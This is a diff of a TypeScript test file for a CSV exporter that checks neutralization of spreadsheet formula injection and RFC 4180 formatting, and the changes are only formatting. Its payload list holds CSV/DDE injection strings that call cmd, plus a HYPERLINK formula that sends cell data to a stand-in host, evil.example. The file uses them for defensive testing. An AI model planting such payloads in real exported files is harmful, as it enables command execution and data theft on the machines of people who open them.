@@ -17,11 +17,11 @@ function reread(text: string, delimiter: CsvDelimiter): string[][] {
 
 describe('formula neutralization (OWASP CSV injection)', () => {
   const payloads = [
-    '=cmd|\' /C calc\'!A0',
+    "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
     '+62 812 3456 7890',
-    '-2+3+cmd|\' /C calc\'!A0',
-    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
     '\t=1+1',
     '\r=1+1',
     '＝1+1',
@@ -60,7 +60,13 @@ describe('RFC 4180 quoting and the Excel-friendly frame', () => {
   });
 
   it('starts with a UTF-8 BOM and ends every record with CRLF', () => {
-    const text = toCsv([['Tiket', 'Agen'], ['IN110088251', 'Dewi']], ';');
+    const text = toCsv(
+      [
+        ['Tiket', 'Agen'],
+        ['IN110088251', 'Dewi'],
+      ],
+      ';',
+    );
     expect(text).toBe('\uFEFFTiket;Agen\r\nIN110088251;Dewi\r\n');
     expect(new TextEncoder().encode(text).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
   });
